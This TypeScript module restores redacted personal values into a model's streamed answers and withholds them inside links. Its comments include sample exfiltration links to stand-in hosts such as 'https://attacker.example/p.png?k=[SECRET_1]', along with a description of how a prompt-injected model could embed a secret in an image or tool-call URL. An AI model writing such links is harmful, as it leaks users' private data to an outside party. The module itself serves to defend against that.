import type { TextTransform } from '../core/bridge/answer-hooks';
import { canonicalPlaceholder, PLACEHOLDER_VARIANT, PLACEHOLDER_VARIANT_IN_JSON } from './placeholder-variants';
import { MAX_PLACEHOLDER_LENGTH, type PiiVault } from './vault';

/** How much of the answer before a placeholder is kept to tell whether the placeholder sits in a link. */
const CONTEXT_CHARS = 2048;

/**
 * The text since the last blank, double quote, backtick or angle bracket opens a URL ("https://x.example/?k=",
 * "//x.example/p.png?m=", which a browser fetches as well, "www.x.example/"); a "//" not followed by a host is a
 * code comment, not a link. A single quote and balanced brackets go on with it, as a browser and Markdown read a
 * link's destination ("https://x.example/p(1).png?k='"); a ")" that closes a bracket opened before it ends it.
 */
const IN_LINK = /(?:[a-z][a-z0-9+.-]*:\/\/|\bwww\.|(?:^|[\s("'`<=[\]])\/\/[a-z0-9-]+(?:\.[a-z0-9-]+)+(?=[/?#:]|$))(?:[^\s"`<>()]|\([^\s"`<>()]*\))*(?:\([^\s"`<>()]*)?$/i;

/**
 * A link in a quoted attribute's value, where blanks and line breaks do not end it (`<img src="https://x.example/a
 * b?k=`; browsers drop the breaks); any Markdown link's or image's destination, whatever it holds but a blank
 * (`![a](https://x.example/((x))?m="`, `](http:x.example/…` without slashes, `](mailto:…?body=`), or in angle brackets
 * to its ">" (`![](<https://x.example/a b?k=`); and a Markdown reference's definition (`[r]: https://x.example/p.png?m="`,
 * `[r]: <https://x.example/a b`).
 */
const ENCLOSED_LINK =
  /(?:=\s*"\s*(?:[a-z][a-z0-9+.-]*:)?\/\/[^"]*|=\s*'\s*(?:[a-z][a-z0-9+.-]*:)?\/\/[^']*|\]\(\s*<[^>\n]*|\]\(\s*(?!#)[^\s]*|(?:^|\n)[ \t]{0,3}\[[^\]\n]+\]:[ \t]*(?:<[^>\n]*|[^\s]*))$/i;

/**
 * What no link holds unquoted: a text of CONTEXT_CHARS without one may be the middle of a link begun before it (renderers
 * take letters of any script into a link, so a long Chinese or Japanese paragraph keeps its placeholders: failing safe).
 */
const ENDS_LINKS = /[\s"`<>]/;

/**
 * In prose a link runs over quotes and backticks to a blank, as autolinkers read it, whatever stands before it
 * ("Visit:https://x.example/?m=\"[EMAIL_1]", even `"url":"https://x.example","e":"` in compact JSON outside a code
 * block, where renderers link across the quotes): failing safe. Inside a JSON string (tool calls' arguments, a JSON
 * answer) only that string is read (`jsonStringBefore`).
 */
const LINK_OVER_QUOTES = /(?:[a-z][a-z0-9+.-]*:\/\/|www\.)[^\s<>"`]*["`][^\s<>]*$/i;

/** A link that is a site's address alone, without a path, a query or a fragment ("https://acme.io", "www.acme.io/"). */
const BARE_SITE = /^(?:[a-z][a-z0-9+.-]*:\/\/|www\.)[^/?#\s]+\/?$/i;

/**
 * Whether `preceding` ends inside a link. In a row whose cells a "," or a "|" parts ("[PERSON_1],https://acme.io,[EMAIL_1]"),
 * that separator, found before the link on its line too, ends a link that is a site's address alone; a link with a path
 * or a query runs on over it ("Hi, https://evil.example/?a=1,[EMAIL_1]" keeps its placeholder), and a Markdown
 * destination is read by `ENCLOSED_LINK`, to its end.
 */
function inLink(raw: string): boolean {
  const preceding = asRendered(raw);
  if (ENCLOSED_LINK.test(preceding)) return true;
  // A link longer than what is kept before a placeholder is a link all the same.
  if (preceding.length >= CONTEXT_CHARS && !ENDS_LINKS.test(preceding)) return true;
  if (LINK_OVER_QUOTES.test(preceding)) return true;
  const link = IN_LINK.exec(preceding);
  if (!link) return false;
  const lineBefore = preceding.slice(preceding.lastIndexOf('\n', link.index) + 1, link.index);
  const separator = [',', '|'].find((sep) => lineBefore.includes(sep) && link[0].includes(sep));
  if (!separator) return true;
  const cut = link[0].indexOf(separator);
  return !BARE_SITE.test(link[0].slice(0, cut)) || IN_LINK.test(link[0].slice(cut + 1));
}

/**
 * What a renderer reads in a link: HTML's character references for ":" and "/" decoded ("https&#58;//", "&#x2f;"), and
 * Markdown's escaped slashes ("https:\/\/") as slashes.
 */
function asRendered(text: string): string {
  if (!text.includes('&') && !text.includes('\\')) return text;
  return text
    .replace(/&#0*58;|&#x0*3a;|&colon;/gi, ':')
    .replace(/&#0*47;|&#x0*2f;|&sol;/gi, '/')
    .replace(/\\\//g, '/');
}

/**
 * The JSON string a placeholder sits in, up to it: from the last quote no backslash escapes. A value is one string, a
 * URL's argument the whole of it (`{"url":"https://x.example/?m=\"[EMAIL_1]"}`), and a JSON answer's next field is
 * another (`{"site":"https://acme.io","email":"[EMAIL_1]"}` restores).
 */
/** Prose that ends inside a JSON field's string value (`"to": "` and the string's characters so far): a key, a colon, an open quote. */
const JSON_FIELD_STRING_BEFORE = /"(?:[^"\\\n]|\\.)*"\s*:\s*"(?:[^"\\\n]|\\.)*$/;

function jsonStringBefore(preceding: string): string {
  for (let i = preceding.length - 1; i >= 0; i--) {
    if (preceding[i] !== '"') continue;
    let slashes = 0;
    while (i - slashes - 1 >= 0 && preceding[i - slashes - 1] === '\\') slashes++;
    if (slashes % 2 === 0) return preceding.slice(i + 1);
  }
  return preceding;
}

/** JSON text read as the text it encodes, for the link check: escaped slashes as slashes, escaped blanks as blanks. */
function unescapedJson(text: string): string {
  return text.replace(/\\(?:\/|u002[fF])/g, '/').replace(/\\[nrt]|\\u00(?:0[9aAdD]|20)/g, ' ').replace(/\\"/g, '"');
}

export interface RestorePolicy {
  /** Whether a placeholder of this category is put back at all (not: secrets, by default). */
  restores(category: string): boolean;
  /** Put values back inside links the model wrote (off by default: a link is fetched by whoever renders it). */
  inLinks: boolean;
}

/**
 * Puts the original values back where the model wrote a placeholder, chunk by
 * chunk: text that could be the start of a placeholder split across two stream
 * chunks (`[EMA` + `IL_1]`, `\\[EMAIL\\_` + `1\\]`) is held back until the next chunk decides it. A placeholder the
 * model altered (other case, a blank, Markdown's escapes) is restored as the one it stands for.
 *
 * A model that read a prompt injection can write a placeholder where it carries the value away
 * (`![](https://attacker.example/p.png?k=[SECRET_1])`, a tool call's URL): what the policy does not restore stays a
 * placeholder, and so does any placeholder inside a link unless the policy allows it.
 */
export function restoreTransform(vault: PiiVault, policy: RestorePolicy, options: { insideJson?: boolean } = {}): TextTransform {
  let pending = '';
  /** The model's own words before the text being restored, for the link check. */
  let before = '';
  // Inside tool-call arguments the value lands in a JSON string, so it is escaped as one.
  const render = (value: string) => (options.insideJson ? JSON.stringify(value).slice(1, -1) : value);
  const restore = (text: string) => {
    const out = text.replace(options.insideJson ? PLACEHOLDER_VARIANT_IN_JSON : PLACEHOLDER_VARIANT, (match, label: string, n: string, offset: number) => {
      // A placeholder the model altered ("[email_1]", "\\[EMAIL\\_1\\]") is the vault's own when the vault issued it.
      const placeholder = canonicalPlaceholder(label, n);
      const value = vault.byPlaceholder.get(placeholder);
      const category = vault.categoryOf.get(placeholder);
      if (value === undefined || category === undefined || !policy.restores(category)) return match;
      const preceding = (before + text.slice(0, offset)).slice(-CONTEXT_CHARS);
      if (!policy.inLinks && inLink(options.insideJson ? unescapedJson(jsonStringBefore(preceding)) : preceding)) return match;
      // JSON written in prose (a prompt that asks for JSON without response_format, a ```json block): a value put into a
      // field's string is escaped as one, or a line break or a quote in it (an address over two lines) breaks the JSON.
      if (!options.insideJson && JSON_FIELD_STRING_BEFORE.test(preceding)) return JSON.stringify(value).slice(1, -1);
      return render(value);
    });
    before = (before + text).slice(-CONTEXT_CHARS);
    return out;
  };
  return {
    restoresOriginals: true,
    push(text) {
      const combined = pending + text;
      const open = combined.lastIndexOf('[');
      let holdFrom = combined.length;
      // A placeholder's start, with the backslash that may escape its bracket, or that backslash alone at the end.
      if (open >= 0 && combined.indexOf(']', open) < 0 && combined.length - open < MAX_PLACEHOLDER_LENGTH) holdFrom = combined[open - 1] === '\\' ? open - 1 : open;
      else if (combined.endsWith('\\')) holdFrom = combined.length - 1;
      pending = combined.slice(holdFrom);
      return restore(combined.slice(0, holdFrom));
    },
    flush() {
      const rest = restore(pending);
      pending = '';
      return rest;
    },
  };
}
